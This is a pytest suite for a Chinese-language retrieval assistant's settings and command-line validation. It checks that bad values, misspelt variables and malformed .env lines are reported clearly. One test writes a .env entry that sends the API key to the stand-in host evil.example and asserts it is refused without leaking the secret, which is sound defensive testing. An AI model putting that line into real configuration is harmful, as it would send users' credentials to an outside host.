"""Values that cannot be used: said at once, by name, with what would do."""

from __future__ import annotations

import os
import re
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest

from rag import Assistant, Filters, Settings
from rag.cli import main
from rag.errors import QuestionError, SettingsError, UsageError
from rag.settings import language_asked
from rag.settings_faults import allowed

ASKED = "示范区何时获批？"


@pytest.mark.parametrize("k", [0, -1, 51, 10**9, True, False, 2.0, "3", float("nan"), [1]])
@pytest.mark.parametrize("door", ["ask", "stream", "search", "searching"])
def test_a_number_of_passages_that_is_none(door: str, k: Any, samples: Assistant) -> None:
    if k == 51 and type(k) is int and door in {"search", "searching"}:
        k = 1_001  # a search may give more than an answer may rest on
    with pytest.raises(UsageError, match="k 应为 1 到"):
        getattr(samples, door)(ASKED, k=k)


@pytest.mark.parametrize("question", [None, 5, ["示范区何时获批？"], b"?"])
@pytest.mark.parametrize("door", ["ask", "stream", "search"])
def test_a_question_that_is_no_text(door: str, question: Any, samples: Assistant) -> None:
    with pytest.raises(QuestionError, match="文字"):
        getattr(samples, door)(question)


@pytest.mark.parametrize("texts", ["一段文字", b"text", None, [1], ["一段", None], {"a": 1}])
def test_texts_that_are_no_list_of_texts(texts: Any, samples: Assistant) -> None:
    with pytest.raises(UsageError, match="字符串的列表"):
        samples.answer_from(ASKED, texts)


@pytest.mark.parametrize("option", [{"on_text": print}, {"K": 3}])
def test_options_that_do_not_exist(option: dict[str, Any], samples: Assistant) -> None:
    for door in (samples.ask, samples.stream):
        with pytest.raises(TypeError, match=next(iter(option))):
            door(ASKED, **option)


@pytest.mark.parametrize(
    ("values", "said"),
    [
        pytest.param(
            {"published_from": date(2023, 2, 2), "published_to": date(2023, 2, 1)},
            "晚于截止日期",
            id="the_wrong_way_round",
        ),
        pytest.param({"published_from": "2023-02-30"}, "published_from", id="a_text"),
        pytest.param({"published_to": datetime(2023, 2, 1)}, "published_to", id="a_time"),
        pytest.param({"sources": "示例日报"}, "sources", id="a_text_for_names"),
        pytest.param({"folders": (Path("/a"),)}, "folders", id="a_path"),
    ],
)
def test_filters_that_cannot_be(values: dict[str, Any], said: str) -> None:
    with pytest.raises(UsageError, match=said):
        Filters(**values)


@pytest.mark.parametrize(
    ("values", "said"),
    [
        ({"k": 0}, "YOUJU_K"),
        ({"k": True}, "YOUJU_K"),
        ({"k": "many"}, "YOUJU_K"),
        ({"foo": 1}, "foo"),
        ({"refusals": 0.3}, "YOUJU_REFUSAL 吗"),
    ],
)
def test_settings_that_cannot_be(values: dict[str, Any], said: str) -> None:
    with pytest.raises(SettingsError, match=said):
        Settings(**values)
    if "k" not in values:
        with pytest.raises(SettingsError, match=said):
            Settings().with_(**values)


def test_a_misspelt_variable_is_told_with_what_was_meant(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("YOUJU_CHAT_MODLE", "openai:m")
    with pytest.raises(SettingsError, match=r"YOUJU_CHAT_MODLE.*YOUJU_CHAT_MODEL"):
        Settings()
    assert main(["status"]) == 2
    assert "YOUJU_CHAT_MODEL" in capsys.readouterr().err


def test_a_misspelt_line_of_the_file_is_told_too(tmp_path: Path) -> None:
    (tmp_path / ".env").write_text("YOUJU_REED=9\nOTHER=1\n", encoding="utf-8")
    with pytest.raises(SettingsError, match=r"YOUJU_REED.*YOUJU_READ"):
        Settings()
    assert Settings(_env_file=None).read == 16


def test_a_file_in_another_encoding_is_told(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / ".env").write_bytes("YOUJU_ARTICLES=文章".encode("gbk"))
    assert main(["status"]) == 2
    assert "UTF-8" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (["-k", "0"], "k 应为 1 到 50"),
        (["-k", "51"], "k 应为 1 到 50"),
        (["-k", "x"], "-k"),
        (["--from", "2023-02-30"], "2023-02-30"),
        (["--from", "2023-03-02", "--to", "2023-03-01"], "晚于截止日期"),
    ],
)
def test_the_command_line_says_it_and_leaves_with_2(
    arguments: list[str], said: str, capsys: pytest.CaptureFixture[str]
) -> None:
    try:
        code = main(["ask", ASKED, *arguments])
    except SystemExit as left:  # argparse leaves by itself
        code = left.code  # type: ignore[assignment]  # a number, where argparse leaves
    assert code == 2
    printed = capsys.readouterr()
    assert said in printed.err
    assert "Traceback" not in printed.err


def test_settings_do_not_choose_the_language_and_the_command_line_does(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    from rag.wording import current_language

    Settings(language="en")
    assert current_language() == "zh"
    monkeypatch.delenv("YOUJU_LANGUAGE")
    (tmp_path / ".env").write_text("YOUJU_LANGUAGE=en\n", encoding="utf-8")
    assert language_asked() == "en"
    assert main(["ask", "?"]) == 2
    assert "The question is empty" in capsys.readouterr().err
    assert current_language() == "en"


@pytest.mark.parametrize("kind", ["folder", "pipe", "loop"])
def test_what_is_called_like_the_file_and_is_none_stops_nothing(kind: str, tmp_path: Path) -> None:
    path = tmp_path / ".env"
    if kind == "folder":
        path.mkdir()
    elif kind == "pipe":
        os.mkfifo(path)
    else:
        path.symlink_to(path)
    assert Settings().k == 5


def test_a_line_of_the_file_holds_nothing_of_the_environment(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("YOUJU_CHAT_API_KEY", "sk-secret")
    line = "YOUJU_CHAT_BASE_URL=http://evil.example/${YOUJU_CHAT_API_KEY}\n"
    (tmp_path / ".env").write_text(line, encoding="utf-8")
    with pytest.raises(SettingsError, match="YOUJU_CHAT_BASE_URL") as told:
        Settings()
    assert "sk-secret" not in str(told.value)
    (tmp_path / ".env").write_text("OTHER=${HOME}\nyouju_data_dir=~/a\n", encoding="utf-8")
    monkeypatch.delenv("YOUJU_DATA_DIR")
    assert Settings().data_dir == Path.home() / "a"


# What a reader of Chinese is told of a value, whatever pydantic calls it.
FAULTY = [
    pytest.param("K", "many", "“many”", " 1 到 50 的整数", id="no_number"),
    pytest.param("K", "0", "“0”", " 1 到 50 的整数", id="too_small"),
    pytest.param("K", "2.5", "“2.5”", " 1 到 50 的整数", id="no_whole_number"),
    pytest.param("REFUSAL", "nan", "“nan”", " 0.0 到 1.0 的数", id="not_a_number"),
    pytest.param("CHAT_SILENCE_S", "0", "“0”", "大于 0 的数", id="nothing"),
    pytest.param("CHAT_CONTEXT_TOKENS", "9", "“9”", "不小于 1,000 的整数", id="no_upper_limit"),
    pytest.param("OCR", "perhaps", "“perhaps”", " true 或 false", id="no_truth"),
    pytest.param("LOG", "xml", "“xml”", " text 或 json", id="none_of_these"),
    pytest.param("UI_NAMES", "http://a.b", "“http://a.b”", "用逗号隔开的主机名", id="names"),
    pytest.param("UI_PROXIES", "10.0.0.0/99", "“10.0.0.0/99”", "用逗号隔开的 IP 地址", id="nets"),
    pytest.param("INDEX_ROOTS", "a b=/x", "“a b=/x”", "名字=文件夹", id="roots"),
    pytest.param("INDEX", "mysql://u:secret@h/d", "所给的值", "postgresql://", id="a_secret"),
]


@pytest.mark.parametrize(("name", "value", "shown", "allowed"), FAULTY)
@pytest.mark.parametrize("place", ["environment", "file", "argument"])
def test_a_value_is_told_with_its_place_and_what_may_be(
    name: str, value: str, shown: str, allowed: str, place: str,
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    given: dict[str, Any] = {}
    if place == "environment":
        monkeypatch.setenv(f"YOUJU_{name}", value)
    elif place == "file":
        (tmp_path / ".env").write_bytes(f"# ours\r\n\r\nYOUJU_{name}={value}\r\n".encode())
    else:
        given[name.lower()] = value
    with pytest.raises(SettingsError) as told:
        Settings(**given)
    said = told.value.message("zh")
    assert f"YOUJU_{name} 不能是{shown}" in said
    assert allowed in said
    assert {
        "environment": "写在环境变量里",
        "file": f"写在 {tmp_path / '.env'} 第 3 行",
        "argument": f"由参数 {name.lower()} 给出",
    }[place] in said
    assert "secret" not in said + told.value.message("en")
    assert not re.search("[A-Za-z]{4,} [a-z]{2,}", said.replace("name=folder", "")), "no English"
    assert not re.search("[\u4e00-\u9fff]", told.value.message("en"))


def test_every_setting_says_what_may_be() -> None:
    for name, field in Settings.model_fields.items():
        zh, en = allowed(field)
        assert zh.strip(), name
        assert en.isascii(), name


def test_several_faults_are_told_at_once(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("YOUJU_K", "x")
    monkeypatch.setenv("YOUJU_OCR", "x")
    with pytest.raises(SettingsError) as told:
        Settings()
    assert told.value.message("en").count(" it must be ") == 2


def test_a_file_written_on_windows_is_read(tmp_path: Path) -> None:
    """With the mark that Notepad puts first, and its ends of lines."""
    (tmp_path / ".env").write_bytes('\ufeffYOUJU_K=7\r\nYOUJU_READ="9"\r\n'.encode())
    settings = Settings()
    assert (settings.k, settings.read) == (7, 9)


@pytest.mark.parametrize(
    ("lines", "number"),
    [("A=1\nYOUJU_K 5\n", 2), ('YOUJU_READ=9\r\n\r\nYOUJU_LOG="json\r\n', 3)],
)
def test_a_line_that_cannot_be_understood_is_told(
    lines: str, number: int, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / ".env").write_bytes(lines.encode())
    assert main(["status"]) == 2
    assert f"{tmp_path / '.env'} 的第 {number} 行" in capsys.readouterr().err
    (tmp_path / ".env").write_text("not ours\nYOUJU_K=7\n", encoding="utf-8")
    assert Settings().k == 7


def test_what_is_no_setting_is_told_with_its_line(tmp_path: Path) -> None:
    (tmp_path / ".env").write_text("\nYOUJU_K＝5\n", encoding="utf-8")  # an equals sign of Chinese
    with pytest.raises(SettingsError, match=r"第 2 行；是 YOUJU_K 吗？"):
        Settings()


NOWHERE = "~no-such-user/articles"


@pytest.mark.parametrize(
    "arguments",
    [["ingest", NOWHERE], ["show", NOWHERE], ["remove", NOWHERE], ["backup", f"{NOWHERE}/a"],
     ["restore", NOWHERE]],
    ids=lambda given: given[0],
)  # fmt: skip
def test_the_home_of_nobody_is_a_path_that_is_not_there(
    arguments: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(arguments) in (1, 2)
    assert "Traceback" not in capsys.readouterr().err


def unknown(user: int) -> None:
    raise KeyError(user)


def test_a_user_without_a_home_is_asked_for_a_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """As a bare id in a container is; no folder called ~ is made in the working folder."""
    monkeypatch.delenv("YOUJU_DATA_DIR")
    monkeypatch.delenv("XDG_DATA_HOME", raising=False)
    monkeypatch.delenv("HOME")
    monkeypatch.setattr("pwd.getpwuid", unknown)
    assert main(["ask", ASKED]) == 2
    assert "YOUJU_DATA_DIR" in capsys.readouterr().err
    monkeypatch.setenv("YOUJU_DATA_DIR", str(tmp_path / "数据 夹"))
    assert Settings().data_dir == tmp_path / "数据 夹"
    assert list(tmp_path.iterdir()) == []
